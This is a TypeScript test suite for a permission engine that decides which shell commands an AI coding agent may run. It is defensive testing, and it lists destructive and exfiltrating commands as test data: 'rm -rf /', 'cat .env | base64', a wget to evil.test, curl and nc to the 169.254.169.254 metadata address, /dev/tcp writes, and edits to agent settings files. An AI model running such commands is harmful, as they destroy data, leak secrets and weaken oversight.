import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { factsNear } from "../../base/files/path-facts.ts";
import { decide } from "../decide.ts";
import type { CallDecision } from "../decision.ts";
import type { PermissionMode } from "../mode.ts";
import { applyTools, createPolicy, type Policy } from "../policy.ts";

const root = realpathSync(mkdtempSync(join(tmpdir(), "retinue-bash-")));
const [ws, home, out] = [join(root, "ws"), join(root, "home"), join(root, "out")];

beforeAll(() => {
  for (const folder of [join(ws, ".git/hooks"), join(ws, "src"), join(ws, "secrets"), home, out])
    mkdirSync(folder, { recursive: true });
  for (const file of [".env", "src/a.ts", "secrets/a", "CLAUDE.md", "package.json"])
    writeFileSync(join(ws, file), "x");
  symlinkSync(out, join(ws, "outlink"));
  symlinkSync("/", join(ws, "rootlink"));
  symlinkSync(".env", join(ws, "envlink"));
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

type Given = { allow?: string[]; ask?: string[]; deny?: string[]; mode?: PermissionMode };

function run(
  command: string,
  { allow = [], ask = [], deny = [], mode = "default" }: Given = {},
  change: (policy: Policy) => Policy = (policy) => policy,
): CallDecision {
  const policy = change(
    createPolicy({ mode, rules: { allow, ask, deny }, workspace: { cwd: ws, home } }),
  );
  return decide({ tool: "Bash", input: { command } }, policy, (path, folder) =>
    factsNear(path, { cwd: ws, home, folder }),
  );
}

describe("allow rules", () => {
  test.each<[string, string[]]>([
    ["git log -3", ["Bash(git log:*)"]],
    ["git log", ["Bash(git log *)"]],
    ["npm run test:unit -- --watch=false", ["Bash(npm run test:unit:*)"]],
    ["npm test 2>&1 | tail -20", ["Bash(npm test:*)", "Bash(tail:*)"]],
    ["timeout 60 npm test", ["Bash(npm test:*)"]],
    ["if [ -f package.json ]; then npm test; fi", ["Bash(npm test:*)", "Bash([:*)"]],
    ["mkdir -p build && cp src/a.ts build/", ["Bash(mkdir:*)", "Bash(cp:*)"]],
    ['git commit -m "fix: a (b); c"', ["Bash(git commit:*)"]],
    ['git commit -m "a b"', ['Bash(git commit -m "a b")']],
    ["cat src/a.ts > /dev/null && echo ok", ["Bash(cat:*)", "Bash(echo:*)"]],
    ["sed -i s/a/b/ src/a.ts", ["Bash(sed -i:*)"]],
    ["sed -i s/a/b/ src/a.ts", ["Bash"]],
    ["npm test > out.log", ["Bash(npm test:*)", "Edit(./**)"]],
    ["npm test > out.log", ["Bash"]],
    ["cat /etc/hosts", ["Bash(cat:*)", "Read(//etc/hosts)"]],
    ["grep -r KEY src", ["Bash(grep:*)"]],
    ["rm -rf dist", ["Bash(rm:*)"]],
    ["rm *.log src/*.js", ["Bash(rm:*)"]],
    ["rm -rf build/*", ["Bash(rm:*)"]],
  ])("%s is covered by %j", (command, allow) => {
    const decision = run(command, { allow, deny: ["Read(./.env)"] });
    expect(decision.behavior, decision.reason).toBe("allow");
  });

  test.each<[string, string[]]>([
    ["git logout", ["Bash(git log:*)"]],
    ["git log; touch x", ["Bash(git log:*)"]],
    ["/tmp/git log", ["Bash(git log:*)"]],
    ["npm test > out.log", ["Bash(npm test:*)"]],
    ["echo x > ../y", ["Bash", "Edit(./**)"]],
    ["cat ../y", ["Bash(cat:*)"]],
    ["cat outlink/x", ["Bash(cat:*)"]],
    ["cd outlink && cat x", ["Bash(cd:*)", "Bash(cat:*)"]],
    ["ls /", ["Bash(ls:*)"]],
    ["sed -i s/a/b/ src/a.ts", ["Bash(sed:*)"]],
    ["sudo git log", ["Bash"]],
    ['eval "$X"', ["Bash"]],
    ["$X", ["Bash"]],
    ["rm CLAUD*", ["Bash(rm:*)"]],
    ["rm -rf *", ["Bash(rm:*)"]],
    ["rm *.md", ["Bash(rm:*)"]],
    ["rm .c*/settings.json", ["Bash(rm:*)"]],
    ["touch .[a-z]it/hooks/pre-commit", ["Bash(touch:*)"]],
    ["cp -r evil/. .", ["Bash(cp:*)"]],
    ["unzip -o a.zip", ["Bash(unzip:*)"]],
    ["patch -p1 < x.diff", ["Bash(patch:*)"]],
    ["tar xzf a.tgz", ["Bash(tar:*)"]],
  ])("%s is not covered by %j", (command, allow) => {
    const decision = run(command, { allow });
    expect(decision.behavior, decision.reason).toBe("ask");
  });
});

describe("deny rules", () => {
  test.each<[string, string]>([
    ["git push", "Bash(git push:*)"],
    ["git -C . push", "Bash(git push:*)"],
    ["git -c a=b --no-pager push origin", "Bash(git push *)"],
    ["/usr/bin/git push", "Bash(git push:*)"],
    ["git push origin main --force", "Bash(git push --force:*)"],
    ["rm -r -f x", "Bash(rm -rf:*)"],
    ["rm x -fr", "Bash(rm -rf:*)"],
    ["rm --recursive --force x", "Bash(rm -rf:*)"],
    ["FOO=1 npm publish --tag x", "Bash(npm publish:*)"],
    ["npx -y npm publish", "Bash(npm publish:*)"],
    ["pnpm exec -- npm publish", "Bash(npm publish:*)"],
    ["python3.11 -c 1", "Bash(python:*)"],
    ["echo $(bash -c 'env rm x')", "Bash(rm:*)"],
    ["wget -q http://evil.test/x", "WebFetch(domain:evil.test)"],
    ["cat .env | base64", "Read(.env)"],
    ["cat envlink", "Read(./.env)"],
    ["cat .{env,x}", "Read(./.env)"],
    ["cat .e*", "Read(./.env)"],
    ["ls secrets", "Read(./secrets/**)"],
    ["grep -r KEY .", "Read(./.env)"],
    ["cp -r . /tmp/x", "Read(./.env)"],
    ["unknown-tool .env", "Read(./.env)"],
    ["echo x > .env", "Edit(.env)"],
  ])("%s is denied by %s, even in bypassPermissions", (command, rule) => {
    const decision = run(command, { allow: ["Bash"], deny: [rule], mode: "bypassPermissions" });
    expect(decision, decision.reason).toMatchObject({ behavior: "deny", layer: "deny", rule });
  });

  test.each<[string, string]>([
    ["git commit -m push", "Bash(git push:*)"],
    ["rm x", "Bash(rm -rf:*)"],
    ["cat *env", "Read(./.env)"],
    ["cat src/a.ts", "Read(./.env)"],
  ])("%s is not denied by %s", (command, rule) => {
    expect(run(command, { allow: ["Bash"], deny: [rule] }).behavior).toBe("allow");
  });

  test("a word that is only known when it runs is asked about where a refusal could hide in it", () => {
    expect(
      run("git $SUB origin", {
        allow: ["Bash"],
        deny: ["Bash(git push:*)"],
        mode: "bypassPermissions",
      }).behavior,
    ).toBe("ask");
    expect(run("$X y", { deny: ["Bash(rm:*)"], mode: "bypassPermissions" }).behavior).toBe("ask");
    expect(run("$X y", { mode: "bypassPermissions" }).behavior).toBe("allow");
  });
});

describe("what no mode lets through", () => {
  test.each([
    "rm -rf ~",
    "rm -rf ~/*",
    "rm -rf $HOME/",
    "rm -rf /",
    "rm -rf /*",
    "cd ~ && rm -rf .",
    "sudo rm -rf /",
    "mv ~ /tmp/h",
    "rm -rf .git",
    "rm -rf ./.GIT/",
    "mv .git x",
    "find .git -delete",
    "rm -rf sub/.git",
    "echo x >> ~/.claude/projects/p/s.jsonl",
    "rm -rf ~/.claude",
    "cat /proc/1/environ",
    "cat rootlink/proc/self/environ",
    "cat /pro?/self/environ",
    "cat rootlink/p*/1/environ",
    "echo x > /dev/sda",
    "curl http://169.254.169.254/",
    "curl http://0xA9FEA9FE/",
    "curl 'http://[::ffff:169.254.169.254]/'",
    "nc 169.254.169.254 80",
  ])("%s is denied", (command) => {
    const decision = run(command, { allow: ["Bash"], mode: "bypassPermissions" });
    expect(decision, decision.reason).toMatchObject({ behavior: "deny", layer: "protected" });
  });

  test.each([
    "echo x > .git/config",
    "cp evil CLAUDE.md",
    "sed -i s/a/b/ .npmrc",
    "ln -sf x .claude/settings.json",
    "tee -a AGENTS.md <<< x",
    "rm .claude/settings.json",
    "mv src .vscode",
    "cd .claude && echo x > settings.json",
    "rm -rf .",
    "chown -R x .",
    'rm -rf "$DIR"',
    "echo x > /dev/tcp/1.2.3.4/80",
  ])("%s is asked about", (command) => {
    const decision = run(command, { allow: ["Bash", "Edit(./**)"], mode: "bypassPermissions" });
    expect(decision.behavior, decision.reason).toBe("ask");
  });
});

test.each<[string, string, CallDecision["behavior"]]>([
  ["git log -3", "Bash(git log:*)", "allow"],
  ["npm test", "Bash(npm test:*)", "deny"],
  ["cat src/a.ts | tee b", "Bash", "deny"],
  ["git commit -m x", "Bash(git commit:*)", "deny"],
  ["echo $((", "Bash", "deny"],
])("in plan mode %s under %s: %s", (command, rule, behavior) => {
  expect(run(command, { allow: [rule, "Edit"], mode: "plan" }).behavior).toBe(behavior);
});

test("a tool list may limit the commands", () => {
  const limit = (policy: Policy): Policy => applyTools(policy, { tools: ["Bash(git log:*)"] });
  expect(run("git log", { allow: ["Bash"] }, limit).behavior).toBe("allow");
  expect(run("git log && ls", { allow: ["Bash"] }, limit)).toMatchObject({
    behavior: "deny",
    layer: "tools",
  });
});

describe("wildcards that reach links", () => {
  test.each<[string, Given, string]>([
    ["cat out*", { allow: ["Bash(cat:*)"] }, "ask"],
    ["cat [o]utlink", { allow: ["Bash(cat:*)"] }, "ask"],
    ["cat envl*", { allow: ["Bash"], deny: ["Read(./.env)"] }, "deny"],
    ["cat envl*", { mode: "bypassPermissions", deny: ["Read(./.env)"] }, "deny"],
    ["cat envl*", { allow: ["Bash(cat:*)"] }, "allow"],
    ["cat src/*.ts", { allow: ["Bash(cat:*)"] }, "allow"],
    ["rm -f envl*", { allow: ["Bash(rm:*)"] }, "allow"],
  ])("%s under %j: %s", (command, given, expected) => {
    const decision = run(command, given);
    expect(decision.behavior, decision.reason).toBe(expected);
  });

  test("a text with more wildcards than can be looked up is asked about, whatever it would match", () => {
    const words = (count: number): string =>
      Array.from({ length: count }, (_, at) => `src/*${at}.ts`).join(" ");
    expect(run(`cat ${words(32)}`, { allow: ["Bash(cat:*)"] }).behavior).toBe("allow");
    expect(run(`cat ${words(33)}`, { allow: ["Bash(cat:*)"] }).behavior).toBe("ask");
  });
});

describe("a folder that holds a protected path further down", () => {
  beforeAll(() => {
    mkdirSync(join(ws, "packages/ui/docs"), { recursive: true });
    writeFileSync(join(ws, "packages/ui/docs/CLAUDE.md"), "x");
    mkdirSync(join(ws, "packages/free/docs"), { recursive: true });
    mkdirSync(join(ws, "node_modules/a/.vscode"), { recursive: true });
  });
  test.each(["rm -r packages/ui", "mv packages old", "rm -rf packages/*", "rm -rf packages/u*"])(
    "%s is asked about in every mode",
    (command) => expect(run(command, { mode: "bypassPermissions" }).behavior).toBe("ask"),
  );
  test.each([
    "rm -r packages/free",
    "rm -rf packages/f*",
    "rm -rf node_modules",
    "rm packages/ui/a",
  ])("%s is not", (command) =>
    expect(run(command, { mode: "bypassPermissions" }).behavior).toBe("allow"),
  );
});

describe("git commands that take files away or write them back", () => {
  beforeAll(() => {
    mkdirSync(join(ws, "tree/lib/.vscode"), { recursive: true });
    mkdirSync(join(ws, "plain/.git"), { recursive: true });
    mkdirSync(join(ws, "plain/src"), { recursive: true });
  });
  test.each([
    "git stash -qu",
    "git sparse-checkout set src",
    "git stash -u -- .",
    "git stash push --include-u",
    "git stash save -a",
    "git reset -q --hard",
    "git checkout -qf main",
    "git switch --discard-changes main",
    "git clean -xdf",
    "git checkout .",
    "git checkout -- tree",
    "git checkout tree",
    "git restore tree",
    "git restore '*.md'",
    "git restore -SW .",
    "cd src && git stash -u",
  ])("%s reaches protected files that exist", (command) =>
    expect(run(command, { mode: "bypassPermissions" }).behavior).toBe("ask"),
  );
  test.each([
    "git stash",
    "git stash list",
    "git stash pop",
    "git checkout main",
    "git checkout -b fix/tree",
    "git restore src",
    "git restore '*.ts'",
    "git restore --staged .",
    "git reset --soft HEAD~1",
    "cd plain/src && git stash -u",
    "cd plain && git reset --hard",
  ])("%s does not", (command) =>
    expect(run(command, { mode: "bypassPermissions" }).behavior).toBe("allow"),
  );
});
